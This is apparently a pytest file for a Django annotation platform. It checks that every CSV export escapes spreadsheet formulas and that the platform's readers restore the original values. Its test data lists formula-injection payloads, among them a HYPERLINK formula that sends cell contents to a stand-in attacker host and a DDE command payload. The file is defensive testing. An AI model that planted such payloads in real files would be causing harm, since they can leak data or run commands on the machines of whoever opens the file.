"""One CSV escaping path for every CSV the platform writes, and readers that undo it (issue 22, 5).

A writer's `=HYPERLINK(...)` marked by an annotator must reach no spreadsheet as a formula,
and the platform's own readers must give back exactly what was exported.
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command

from anonymize.annotations.formats import read_csv
from csv_safe import SafeDictReader, SafeDictWriter, spreadsheet_escape, spreadsheet_unescape
from intruder.annotation import services
from intruder.annotation.exports import agreement_export, export_bytes
from intruder.annotation.models import Task
from tests.annotation.conftest import make_project, mention

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"a")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "'=already quoted",
]
TEXTS = {f"f{i}": f"{formula} wrote Ann Lee here." for i, formula in enumerate(FORMULAS)}


def _is_formula(cell: str) -> bool:
    return bool(cell) and cell[0] in "=+-@\t\r"


@pytest.mark.parametrize("value", [*FORMULAS, "'Tis", "", "plain", "''=x", "-"])
def test_escape_round_trips(value):
    assert spreadsheet_unescape(spreadsheet_escape(value)) == value


def test_safe_writer_and_reader_round_trip_every_cell():
    sink = io.StringIO()
    writer = SafeDictWriter(sink, fieldnames=["=head", "value"])
    writer.writeheader()
    writer.writerows({"=head": f, "value": 3} for f in FORMULAS)
    raw = list(csv.reader(io.StringIO(sink.getvalue())))
    assert not any(_is_formula(cell) for row in raw for cell in row)
    back = list(SafeDictReader(io.StringIO(sink.getvalue())))
    assert [row["=head"] for row in back] == FORMULAS


@pytest.mark.django_db
def test_annotation_and_agreement_csv_hold_no_formula_and_read_back(fake_anonymizer, tmp_path):
    project = make_project(texts=TEXTS, annotators_per_text=2)
    for pid in ("AAA1", "BBB2"):
        annotator = services.annotator_enroll(project=project, prolific_pid=pid)
        for document in project.documents.all():
            task = Task.objects.create(
                document=document, annotator=annotator, slot=1 if pid == "AAA1" else 2
            )
            first = document.text.split(" wrote")[0].strip()
            marks = [mention(document.text, "Ann Lee", entity="p")]
            if first:
                start = document.text.index(first)
                marks.append(
                    {
                        **mention(document.text, "Ann Lee", entity="f"),
                        "start": start,
                        "end": start + len(first),
                        "entity_type": "OTHER_IDENTIFYING_ATTRIBUTE",
                        "identifier_type": "QUASI",
                    }
                )
            services.task_save(task=task, revision=0, mentions=marks)
            services.task_submit(task=task)
    exported = export_bytes(project=project, fmt="csv").decode()
    agreement = agreement_export(project=project, fmt="csv").decode()
    call_command(
        "export_annotations", project.slug, "--format", "csv", "--out", str(tmp_path / "out.csv")
    )
    command_csv = (tmp_path / "out.csv").read_text(encoding="utf-8")
    for name, content in (("export", exported), ("agreement", agreement), ("cli", command_csv)):
        cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
        assert not [c for c in cells if _is_formula(c)], name
    texts = dict(project.documents.values_list("doc_id", "text"))
    documents = read_csv(exported.encode(), texts)
    # read_csv checks each span_text against the text: an escaped cell would not match.
    spans = {
        d.text[m.start : m.end] for d in documents for ms in d.annotations.values() for m in ms
    }
    assert any(s.startswith("=HYPERLINK") for s in spans)
    assert {s for s in spans if s != "Ann Lee"} <= {
        t.split(" wrote")[0].strip() for t in TEXTS.values()
    }


def test_every_csv_the_platform_writes_goes_through_csv_safe():
    """No module outside `csv_safe` makes a csv writer or DictReader of its own."""
    offenders = []
    for package in ("anonymize", "attacks", "guard", "intruder", "research_data"):
        for path in (ROOT / package).rglob("*.py"):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                if (
                    isinstance(node, ast.Attribute)
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                    and node.attr in ("writer", "DictWriter", "DictReader", "reader")
                ):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} csv.{node.attr}")
    assert offenders == []
